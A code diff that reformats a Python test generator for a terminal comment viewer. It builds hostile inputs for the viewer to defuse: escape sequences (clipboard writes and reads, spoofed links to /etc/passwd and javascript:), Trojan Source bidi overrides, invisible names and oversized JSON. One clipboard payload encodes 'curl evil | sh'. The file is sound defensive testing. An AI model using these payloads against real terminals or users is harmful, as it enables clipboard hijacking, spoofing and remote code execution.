@@ -34,42 +34,42 @@ control sequence taken from the file from one Textual made."""
 
 # Terminal control sequences a comment must never get to the terminal as such.
 PAYLOADS: tuple[str, ...] = (
-    ESC + "[2J" + ESC + "[H" + MARK + "-clear",               # CSI: clear, home
-    ESC + "[31;1m" + MARK + "-red" + ESC + "[0m",             # SGR colours
-    ESC + "]0;" + MARK + "-title0\x07",                       # OSC 0 window title (BEL)
-    ESC + "]2;" + MARK + "-title2" + ST,                      # OSC 2 window title (ST)
+    ESC + "[2J" + ESC + "[H" + MARK + "-clear",  # CSI: clear, home
+    ESC + "[31;1m" + MARK + "-red" + ESC + "[0m",  # SGR colours
+    ESC + "]0;" + MARK + "-title0\x07",  # OSC 0 window title (BEL)
+    ESC + "]2;" + MARK + "-title2" + ST,  # OSC 2 window title (ST)
     ESC + "]52;c;" + base64.b64encode(f"{MARK} curl evil | sh".encode()).decode() + "\x07",
-    ESC + "]52;p;?\x07",                                      # OSC 52 clipboard read
+    ESC + "]52;p;?\x07",  # OSC 52 clipboard read
     ESC + "]8;;file:///etc/passwd" + ST + MARK + "-osc8" + ESC + "]8;;" + ST,
     ESC + "]8;;javascript:alert(1)\x07" + MARK + "-osc8js" + ESC + "]8;;\x07",
-    ESC + "]1337;File=name=" + MARK + ":AAAA\x07",            # iTerm2 file transfer
-    ESC + "]10;?\x07" + ESC + "]11;?" + ST,                   # colour queries
-    ESC + "P+q" + MARK.encode().hex() + ST,                   # DCS XTGETTCAP
-    ESC + "P1$t" + MARK + ST,                                 # DCS DECRSPS
-    ESC + "Pq#0;2;0;0;0#0~~@@vv" + MARK + ST,                 # DCS sixel
-    ESC + "_Ga=T,f=100;" + MARK + ST,                         # APC kitty graphics
-    ESC + "^" + MARK + "-pm" + ST,                            # PM
-    ESC + "X" + MARK + "-sos" + ST,                           # SOS
-    "\x9b2J" + MARK + "-c1csi",                               # C1 CSI
-    "\x9d0;" + MARK + "-c1osc\x9c",                           # C1 OSC ... C1 ST
-    "\x90" + MARK + "-c1dcs\x9c",                             # C1 DCS
-    "\x9f" + MARK + "-c1apc\x9c",                             # C1 APC
-    "\x9e\x98\x85\x84\x8d\x8e\x8f\x80\x81",                   # PM SOS NEL IND RI SS2 SS3 ...
+    ESC + "]1337;File=name=" + MARK + ":AAAA\x07",  # iTerm2 file transfer
+    ESC + "]10;?\x07" + ESC + "]11;?" + ST,  # colour queries
+    ESC + "P+q" + MARK.encode().hex() + ST,  # DCS XTGETTCAP
+    ESC + "P1$t" + MARK + ST,  # DCS DECRSPS
+    ESC + "Pq#0;2;0;0;0#0~~@@vv" + MARK + ST,  # DCS sixel
+    ESC + "_Ga=T,f=100;" + MARK + ST,  # APC kitty graphics
+    ESC + "^" + MARK + "-pm" + ST,  # PM
+    ESC + "X" + MARK + "-sos" + ST,  # SOS
+    "\x9b2J" + MARK + "-c1csi",  # C1 CSI
+    "\x9d0;" + MARK + "-c1osc\x9c",  # C1 OSC ... C1 ST
+    "\x90" + MARK + "-c1dcs\x9c",  # C1 DCS
+    "\x9f" + MARK + "-c1apc\x9c",  # C1 APC
+    "\x9e\x98\x85\x84\x8d\x8e\x8f\x80\x81",  # PM SOS NEL IND RI SS2 SS3 ...
     ESC + "[6n" + ESC + "[c" + ESC + "[>c" + ESC + "[21t" + ESC + "[14t",  # queries
-    ESC + "c",                                                # RIS: full reset
+    ESC + "c",  # RIS: full reset
     ESC + "#8" + ESC + "7" + ESC + "8" + ESC + "(0" + MARK + "-dec" + ESC + "(B",
     ESC + "[?1049l" + ESC + "[?25l" + ESC + "[?1000h" + ESC + "[?2004l" + ESC + "[3J",
     ESC + "[8h" + ESC + "[?7l" + ESC + "[r" + ESC + "[5;5r",
-    ESC + "[4i" + ESC + "[5i",                                # printer on/off
+    ESC + "[4i" + ESC + "[5i",  # printer on/off
     "bell\x07" + MARK,
     "back\x08\x08\x08\x08" + MARK,
     "over\r" + MARK + "-cr",
     "delete\x7f" + MARK,
     "nul\x00" + MARK,
-    "vt\x0bff\x0c" + MARK + "\x0e\x0f\x18\x1a",               # VT FF SO SI CAN SUB
+    "vt\x0bff\x0c" + MARK + "\x0e\x0f\x18\x1a",  # VT FF SO SI CAN SUB
     "tab\tnl\n" + MARK + "-nl",
     "line\u2028para\u2029sep\u0085",
-    ESC,                                                      # a lone trailing ESC
+    ESC,  # a lone trailing ESC
 )
 
 MARKUP: tuple[str, ...] = (
@@ -82,13 +82,13 @@ MARKUP: tuple[str, ...] = (
 )
 
 BIDI_SPOOF: tuple[str, ...] = (
-    "\u202e" + MARK + "-rlo",          # RIGHT-TO-LEFT OVERRIDE, never closed
-    "\u202d\u202b\u202a" + MARK,       # LRO RLE LRE, never closed
-    "\u2067" + MARK + "-rli",          # RLI, never closed
-    "\u2066\u2068" + MARK,             # LRI FSI
-    "\u202c\u2069\u2069\u202c",        # PDF and PDI with nothing to close
+    "\u202e" + MARK + "-rlo",  # RIGHT-TO-LEFT OVERRIDE, never closed
+    "\u202d\u202b\u202a" + MARK,  # LRO RLE LRE, never closed
+    "\u2067" + MARK + "-rli",  # RLI, never closed
+    "\u2066\u2068" + MARK,  # LRI FSI
+    "\u202c\u2069\u2069\u202c",  # PDF and PDI with nothing to close
     "admin\u202e\u2066 is \u2069\u2066 good",
-    "\u200f\u200e\u061c",              # RLM LRM ALM
+    "\u200f\u200e\u061c",  # RLM LRM ALM
 )
 
 URLS: tuple[str, ...] = (
@@ -134,8 +134,15 @@ class Case:
 CASES: list[Case] = []
 
 
-def case(name: str, expect: str, needle: str = "", *, args: tuple[str, ...] = (),
-         large: bool = False, about: str = "") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
+def case(
+    name: str,
+    expect: str,
+    needle: str = "",
+    *,
+    args: tuple[str, ...] = (),
+    large: bool = False,
+    about: str = "",
+) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
     def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
         CASES.append(Case(name, fn, expect, needle, args, large, about or (fn.__doc__ or "")))
         return fn
@@ -144,6 +151,7 @@ def case(name: str, expect: str, needle: str = "", *, args: tuple[str, ...] = ()
 
 
 # --------------------------------------------------------------------- terminal safety
+
 
 def _escapes_doc() -> dict[str, object]:
     h = hostile_text
@@ -172,8 +180,12 @@ def _escapes_doc() -> dict[str, object]:
                 "body": h("body"),
                 h("comment-unknown-key"): [h("comment-unknown-value")],
                 "replies": [
-                    {"id": h("reply.id"), "author": h("reply.author"), "body": h("reply.body"),
-                     "posted": "2024-01-02T03:04:05Z"},
+                    {
+                        "id": h("reply.id"),
+                        "author": h("reply.author"),
+                        "body": h("reply.body"),
+                        "posted": "2024-01-02T03:04:05Z",
+                    },
                     {"author": "\u202e" + MARK, "parent": h("parent"), "body": "\n".join(URLS)},
                 ],
             },
@@ -210,15 +222,23 @@ def _markup() -> bytes:
 
 # --------------------------------------------------------------------- spoofing
 
+
 @case("bidi-spoof.json", "open")
 def _bidi() -> bytes:
     """Bidi overrides and isolates left open in authors, titles and URLs (Trojan Source)."""
     comments = []
     for k, s in enumerate(BIDI_SPOOF):
-        comments.append({
-            "id": f"b{k}", "author": s, "title": s, "url": "https://example.com/" + s,
-            "posted": "2024-05-06T07:08:09Z", "score": 1234, "body": f"body {k}: {s} after",
-        })
+        comments.append(
+            {
+                "id": f"b{k}",
+                "author": s,
+                "title": s,
+                "url": "https://example.com/" + s,
+                "posted": "2024-05-06T07:08:09Z",
+                "score": 1234,
+                "body": f"body {k}: {s} after",
+            }
+        )
     comments.append({"author": "plain", "body": "no controls here"})
     return _json({"title": BIDI_SPOOF[0] + " title", "comments": comments}, ascii_only=False)
 
@@ -226,29 +246,32 @@ def _bidi() -> bytes:
 INVISIBLE_AUTHORS: tuple[str, ...] = (
     "",
     " ",
-    "\u200b\u200c\u200d\u2060\ufeff",      # zero-width characters
-    "\u202e",                              # only an override
-    "\u0301\u0302",                        # only combining marks
-    "\u3164",                              # HANGUL FILLER (a letter that draws nothing)
-    "\u2800",                              # BRAILLE PATTERN BLANK
-    "\u115f\u1160",                        # Hangul choseong/jungseong fillers
-    "\u00ad\u034f\u180e",                  # soft hyphen, CGJ, Mongolian vowel separator
-    "\U000e0041\U000e0064",                # tag characters
-    "\u2061\u2062\u2063\u2064",            # invisible math operators
+    "\u200b\u200c\u200d\u2060\ufeff",  # zero-width characters
+    "\u202e",  # only an override
+    "\u0301\u0302",  # only combining marks
+    "\u3164",  # HANGUL FILLER (a letter that draws nothing)
+    "\u2800",  # BRAILLE PATTERN BLANK
+    "\u115f\u1160",  # Hangul choseong/jungseong fillers
+    "\u00ad\u034f\u180e",  # soft hyphen, CGJ, Mongolian vowel separator
+    "\U000e0041\U000e0064",  # tag characters
+    "\u2061\u2062\u2063\u2064",  # invisible math operators
     "\t\n",
-    "\ufe0f\ufe0f",                        # variation selectors
+    "\ufe0f\ufe0f",  # variation selectors
 )
 
 
 @case("invisible-authors.json", "open")
 def _invisible() -> bytes:
     """Authors made of invisible characters must still show something visible."""
-    comments = [{"id": f"i{k}", "author": a, "body": f"comment by invisible author {k}"}
-                for k, a in enumerate(INVISIBLE_AUTHORS)]
+    comments = [
+        {"id": f"i{k}", "author": a, "body": f"comment by invisible author {k}"}
+        for k, a in enumerate(INVISIBLE_AUTHORS)
+    ]
     return _json({"title": "\u200b", "comments": comments}, ascii_only=False)
 
 
 # --------------------------------------------------------------------- shape of the file
+
 
 @case("emoji-zwj.json", "open")
 def _emoji() -> bytes:
@@ -263,28 +286,38 @@ def _emoji() -> bytes:
         "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
         "سلام " + family + " دنیا",
     ]
-    return _json({"title": family, "comments": [{"author": family, "body": b} for b in bodies]},
-                 ascii_only=False)
+    return _json(
+        {"title": family, "comments": [{"author": family, "body": b} for b in bodies]},
+        ascii_only=False,
+    )
 
 
 @case("combining-1k.json", "open")
 def _combining_small() -> bytes:
     """A line of 1,000 combining marks on one base letter, and marks with no base."""
-    return _json({"title": "a" + "\u0301" * 1000, "comments": [
-        {"author": "\u0301" * 200, "body": "e" + "\u0301\u0308\u0323" * 333},
-        {"body": "\u0651" * 1000},
-        {"body": "\u0301" * 1000},
-    ]}, ascii_only=False)
+    return _json(
+        {
+            "title": "a" + "\u0301" * 1000,
+            "comments": [
+                {"author": "\u0301" * 200, "body": "e" + "\u0301\u0308\u0323" * 333},
+                {"body": "\u0651" * 1000},
+                {"body": "\u0301" * 1000},
+            ],
+        },
+        ascii_only=False,
+    )
 
 
 @case("surrogates.json", "open", "surrogate")
 def _surrogates() -> bytes:
     """Unpaired surrogates escaped in JSON, in every text field."""
-    text = (b'{"title": "t\\ud800", "url": "\\udfff", "source": "\\ud83d", '
-            b'"article": {"title": "\\ud800", "author": "\\udc00", "body": "a\\ud800b"}, '
-            b'"comments": [{"id": "\\ud800", "author": "\\udbff", "title": "\\udfff", '
-            b'"posted": "\\ud800", "url": "\\ud800", "body": "x\\udfffy\\ud83d\\ude00"},'
-            b'{"parent": "\\ud800", "body": "reply"}]}')
+    text = (
+        b'{"title": "t\\ud800", "url": "\\udfff", "source": "\\ud83d", '
+        b'"article": {"title": "\\ud800", "author": "\\udc00", "body": "a\\ud800b"}, '
+        b'"comments": [{"id": "\\ud800", "author": "\\udbff", "title": "\\udfff", '
+        b'"posted": "\\ud800", "url": "\\ud800", "body": "x\\udfffy\\ud83d\\ude00"},'
+        b'{"parent": "\\ud800", "body": "reply"}]}'
+    )
     return text
 
 
@@ -292,8 +325,12 @@ def _surrogates() -> bytes:
 def _dups() -> bytes:
     """The same id many times, including ids that look like threadtui's renamed ones."""
     comments = [{"id": "x", "body": str(k)} for k in range(20)]
-    comments += [{"id": "x~2", "body": "looks renamed"}, {"id": "#1", "body": "looks generated"},
-                 {"body": "no id"}, {"id": "x", "parent": "x", "body": "reply to x"}]
+    comments += [
+        {"id": "x~2", "body": "looks renamed"},
+        {"id": "#1", "body": "looks generated"},
+        {"body": "no id"},
+        {"id": "x", "parent": "x", "body": "reply to x"},
+    ]
     return _json({"title": "dups", "comments": comments})
 
 
@@ -302,8 +339,14 @@ def _cycles() -> bytes:
     """Parent cycles of length 1 (itself), 2, 3, 10 and 100, plus orphans."""
     comments: list[dict[str, object]] = [{"id": "self", "parent": "self", "body": "me"}]
     for length in (2, 3, 10, 100):
-        comments += [{"id": f"c{length}-{k}", "parent": f"c{length}-{(k + 1) % length}",
-                      "body": f"cycle {length} member {k}"} for k in range(length)]
+        comments += [
+            {
+                "id": f"c{length}-{k}",
+                "parent": f"c{length}-{(k + 1) % length}",
+                "body": f"cycle {length} member {k}",
+            }
+            for k in range(length)
+        ]
     comments += [{"id": f"o{k}", "parent": f"missing{k}", "body": "orphan"} for k in range(5)]
     return _json({"title": "cycles", "comments": comments})
 
@@ -311,10 +354,32 @@ def _cycles() -> bytes:
 @case("nulls-optional.json", "open")
 def _nulls_ok() -> bytes:
     """null in every optional field is allowed."""
-    c = {k: None for k in ("id", "parent", "author", "verified", "posted", "title", "score",
-                           "url", "deleted", "more", "replies")}
-    return _json({"title": "nulls", "url": None, "source": None, "article": None, "more": None,
-                  "comments": [{**c, "body": "all null"}]})
+    c = {
+        k: None
+        for k in (
+            "id",
+            "parent",
+            "author",
+            "verified",
+            "posted",
+            "title",
+            "score",
+            "url",
+            "deleted",
+            "more",
+            "replies",
+        )
+    }
+    return _json(
+        {
+            "title": "nulls",
+            "url": None,
+            "source": None,
+            "article": None,
+            "more": None,
+            "comments": [{**c, "body": "all null"}],
+        }
+    )
 
 
 @case("null-body.json", "fail", "body: expected a string")
@@ -337,8 +402,9 @@ def _num_author() -> bytes:
 @case("number-ids.json", "open")
 def _num_ids() -> bytes:
     """Numeric ids and parents are accepted as their decimal text."""
-    return _json({"title": "t", "comments": [{"id": 1, "body": "a"},
-                                             {"id": 2, "parent": 1, "body": "b"}]})
+    return _json(
+        {"title": "t", "comments": [{"id": 1, "body": "a"}, {"id": 2, "parent": 1, "body": "b"}]}
+    )
 
 
 @case("object-body.json", "fail", "body: expected a string")
@@ -355,10 +421,12 @@ def _many() -> bytes:
 @case("big-numbers.json", "open")
 def _big_numbers() -> bytes:
     """Scores of 10^300, -10^300 and 1e308, a 300-digit id, a huge `more`."""
-    return (b'{"title": "big", "more": ' + b"9" * 100 + b', "comments": ['
-            b'{"id": ' + b"1" * 300 + b', "body": "a", "score": ' + b"9" * 300 + b'},'
-            b'{"body": "b", "score": -' + b"9" * 300 + b', "more": ' + b"9" * 200 + b'},'
-            b'{"body": "c", "score": 1e308}, {"body": "d", "score": -0.0}]}')
+    return (
+        b'{"title": "big", "more": ' + b"9" * 100 + b', "comments": ['
+        b'{"id": ' + b"1" * 300 + b', "body": "a", "score": ' + b"9" * 300 + b"},"
+        b'{"body": "b", "score": -' + b"9" * 300 + b', "more": ' + b"9" * 200 + b"},"
+        b'{"body": "c", "score": 1e308}, {"body": "d", "score": -0.0}]}'
+    )
 
 
 @case("huge-int-score.json", "fail", "score")
@@ -376,19 +444,37 @@ def _nan() -> bytes:
 @case("bad-dates.json", "open", "ISO 8601")
 def _dates() -> bytes:
     """Dates that are not dates: shown as written, with a warning."""
-    dates = ["yesterday", "2024-13-45", "0000-00-00", "2024-02-30T25:61:61",
-             "9999-12-31T23:59:59+23:59", "-0001-01-01", "", " ", "\u06f1\u06f4\u06f0\u06f3",
-             "2020-01-01T00:00:00+99:00", "1" * 10_000, "\u202e2024-01-01",
-             "2024-01-01T00:00:00\u0000", "0001-01-01T00:00:00-23:59"]
-    return _json({"title": "dates", "article": {"published": "not a date", "body": "x"},
-                  "comments": [{"body": f"date {k}", "posted": d} for k, d in enumerate(dates)]},
-                 ascii_only=False)
+    dates = [
+        "yesterday",
+        "2024-13-45",
+        "0000-00-00",
+        "2024-02-30T25:61:61",
+        "9999-12-31T23:59:59+23:59",
+        "-0001-01-01",
+        "",
+        " ",
+        "\u06f1\u06f4\u06f0\u06f3",
+        "2020-01-01T00:00:00+99:00",
+        "1" * 10_000,
+        "\u202e2024-01-01",
+        "2024-01-01T00:00:00\u0000",
+        "0001-01-01T00:00:00-23:59",
+    ]
+    return _json(
+        {
+            "title": "dates",
+            "article": {"published": "not a date", "body": "x"},
+            "comments": [{"body": f"date {k}", "posted": d} for k, d in enumerate(dates)],
+        },
+        ascii_only=False,
+    )
 
 
 @case("bom-utf8.json", "open")
 def _bom() -> bytes:
-    return codecs.BOM_UTF8 + _json({"title": "سلام", "comments": [{"body": "متن"}]},
-                                   ascii_only=False)
+    return codecs.BOM_UTF8 + _json(
+        {"title": "سلام", "comments": [{"body": "متن"}]}, ascii_only=False
+    )
 
 
 @case("double-bom.json", "fail", "invalid JSON|not a thread format")
@@ -397,8 +483,9 @@ def _double_bom() -> bytes:
 
 
 def _unicode_doc() -> str:
-    return json.dumps({"title": "سلام \U0001f600", "comments": [{"body": "متن \U0001f600"}]},
-                      ensure_ascii=False)
+    return json.dumps(
+        {"title": "سلام \U0001f600", "comments": [{"body": "متن \U0001f600"}]}, ensure_ascii=False
+    )
 
 
 @case("utf16le-bom.json", "open")
@@ -542,15 +629,26 @@ def _article_only() -> bytes:
 
 @case("unknown-format.json", "open", "unknown format")
 def _unknown_format() -> bytes:
-    return _json({"format": ESC + "]0;" + MARK + "\x07" + "x" * 500, "title": "t",
-                  "comments": [{"body": "x"}]})
+    return _json(
+        {
+            "format": ESC + "]0;" + MARK + "\x07" + "x" * 500,
+            "title": "t",
+            "comments": [{"body": "x"}],
+        }
+    )
 
 
 # --------------------------------------------------------------------- large cases
 
+
 def _chain(depth: int) -> bytes:
-    return (b'{"title": "chain", "comments": [' + b'{"body": "level", "replies": [' * depth
-            + b'{"body": "bottom of the chain"}' + b"]}" * depth + b"]}")
+    return (
+        b'{"title": "chain", "comments": ['
+        + b'{"body": "level", "replies": [' * depth
+        + b'{"body": "bottom of the chain"}'
+        + b"]}" * depth
+        + b"]}"
+    )
 
 
 @case("deep-100k.json", "open", large=True)
@@ -562,8 +660,10 @@ def _deep() -> bytes:
 @case("deep-flat-100k.json", "open", large=True)
 def _deep_flat() -> bytes:
     """A 100,000-level chain given flat, by parent ids, in reverse order."""
-    comments = [{"id": f"n{k}", "parent": f"n{k - 1}" if k else None, "body": f"level {k}"}
-                for k in range(100_000)]
+    comments = [
+        {"id": f"n{k}", "parent": f"n{k - 1}" if k else None, "body": f"level {k}"}
+        for k in range(100_000)
+    ]
     comments.reverse()
     return _json({"title": "flat chain", "comments": comments})
 
@@ -571,21 +671,33 @@ def _deep_flat() -> bytes:
 @case("wide-100k.json", "open", large=True)
 def _wide() -> bytes:
     """100,000 top-level comments."""
-    return _json({"title": "wide", "comments": [{"id": f"w{k}", "author": f"user{k % 977}",
-                                                 "body": f"comment number {k}"}
-                                                for k in range(100_000)]})
+    return _json(
+        {
+            "title": "wide",
+            "comments": [
+                {"id": f"w{k}", "author": f"user{k % 977}", "body": f"comment number {k}"}
+                for k in range(100_000)
+            ],
+        }
+    )
 
 
 @case("comment-20mb.json", "open", large=True)
 def _huge_comment() -> bytes:
     """One comment of 20 MB (words, Persian and Latin, many paragraphs)."""
-    para = ("این یک پاراگراف طولانی است که چند بار تکرار می‌شود. " * 20
-            + "This is a long paragraph repeated many times. " * 20)
+    para = (
+        "این یک پاراگراف طولانی است که چند بار تکرار می‌شود. " * 20
+        + "This is a long paragraph repeated many times. " * 20
+    )
     n = 20_000_000 // len(para.encode())
     body = "\n\n".join([para] * n)
-    return _json({"title": "huge comment", "comments": [{"author": "big", "body": body},
-                                                        {"author": "after", "body": "small"}]},
-                 ascii_only=False)
+    return _json(
+        {
+            "title": "huge comment",
+            "comments": [{"author": "big", "body": body}, {"author": "after", "body": "small"}],
+        },
+        ascii_only=False,
+    )
 
 
 @case("token-2mb.json", "open", large=True)
@@ -598,54 +710,88 @@ def _token() -> bytes:
 @case("token-rtl-2mb.json", "open", large=True)
 def _token_rtl() -> bytes:
     """A 2 MB Arabic-script token with no spaces (shaping and reordering at scale)."""
-    return _json({"title": "rtl token", "comments": [{"body": "سلامدنیا" * 131_072},
-                                                     {"body": "after"}]}, ascii_only=False)
+    return _json(
+        {"title": "rtl token", "comments": [{"body": "سلامدنیا" * 131_072}, {"body": "after"}]},
+        ascii_only=False,
+    )
 
 
 @case("combining-100k.json", "open", large=True)
 def _combining() -> bytes:
     """Lines of 100,000 combining marks."""
-    return _json({"title": "combining", "comments": [
-        {"body": "a" + "\u0301" * 100_000},
-        {"body": "\u0651" * 100_000},
-        {"author": "x" + "\u0308" * 100_000, "body": "\u0308" * 100_000},
-    ]}, ascii_only=False)
+    return _json(
+        {
+            "title": "combining",
+            "comments": [
+                {"body": "a" + "\u0301" * 100_000},
+                {"body": "\u0651" * 100_000},
+                {"author": "x" + "\u0308" * 100_000, "body": "\u0308" * 100_000},
+            ],
+        },
+        ascii_only=False,
+    )
 
 
 @case("dup-ids-100k.json", "open", "duplicate", large=True)
 def _dups_many() -> bytes:
     """100,000 comments sharing one id (once took quadratic time)."""
-    return _json({"title": "dups", "comments": [{"id": "same", "body": str(k)}
-                                                for k in range(100_000)]})
+    return _json(
+        {"title": "dups", "comments": [{"id": "same", "body": str(k)} for k in range(100_000)]}
+    )
 
 
 @case("cycle-100k.json", "open", "cycle", large=True)
 def _cycle_big() -> bytes:
     """One parent cycle through 100,000 comments."""
     n = 100_000
-    return _json({"title": "cycle", "comments": [{"id": f"c{k}", "parent": f"c{(k + 1) % n}",
-                                                  "body": f"member {k}"} for k in range(n)]})
+    return _json(
+        {
+            "title": "cycle",
+            "comments": [
+                {"id": f"c{k}", "parent": f"c{(k + 1) % n}", "body": f"member {k}"}
+                for k in range(n)
+            ],
+        }
+    )
 
 
 @case("orphans-100k.json", "open", "does not exist", large=True)
 def _orphans() -> bytes:
-    return _json({"title": "orphans", "comments": [{"id": f"o{k}", "parent": f"gone{k}",
-                                                    "body": "orphan"} for k in range(100_000)]})
+    return _json(
+        {
+            "title": "orphans",
+            "comments": [
+                {"id": f"o{k}", "parent": f"gone{k}", "body": "orphan"} for k in range(100_000)
+            ],
+        }
+    )
 
 
 @case("bad-dates-100k.json", "open", "ISO 8601", large=True)
 def _many_dates() -> bytes:
     """100,000 bad dates: the warnings must stay few."""
-    return _json({"title": "dates", "comments": [{"body": "x", "posted": f"day {k}"}
-                                                 for k in range(100_000)]})
+    return _json(
+        {
+            "title": "dates",
+            "comments": [{"body": "x", "posted": f"day {k}"} for k in range(100_000)],
+        }
+    )
 
 
 @case("deep-unknown-key.json", "open", large=True)
 def _deep_extra() -> bytes:
     """An unknown key holding arrays nested 100,000 deep."""
     d = 100_000
-    return (b'{"title": "t", "x-junk": ' + b"[" * d + b"]" * d
-            + b', "comments": [{"body": "x", "x-more": ' + b'{"a":' * d + b"1" + b"}" * d + b"}]}")
+    return (
+        b'{"title": "t", "x-junk": '
+        + b"[" * d
+        + b"]" * d
+        + b', "comments": [{"body": "x", "x-more": '
+        + b'{"a":' * d
+        + b"1"
+        + b"}" * d
+        + b"}]}"
+    )
 
 
 @case("deep-format.json", "open", "unknown format", large=True)
@@ -664,11 +810,16 @@ def _deep_junk() -> bytes:
 @case("huge-id.json", "open", "does not exist", large=True)
 def _huge_id() -> bytes:
     """A 5 MB parent id that does not exist (once a 5 MB warning)."""
-    return _json({"title": "t", "comments": [{"id": "a" * 5_000_000, "parent": "b" * 5_000_000,
-                                              "body": "x"}]})
+    return _json(
+        {
+            "title": "t",
+            "comments": [{"id": "a" * 5_000_000, "parent": "b" * 5_000_000, "body": "x"}],
+        }
+    )
 
 
 # --------------------------------------------------------------------- writing
+
 
 def cases(*, small: bool = True, large: bool = True) -> Iterator[Case]:
     for c in CASES:
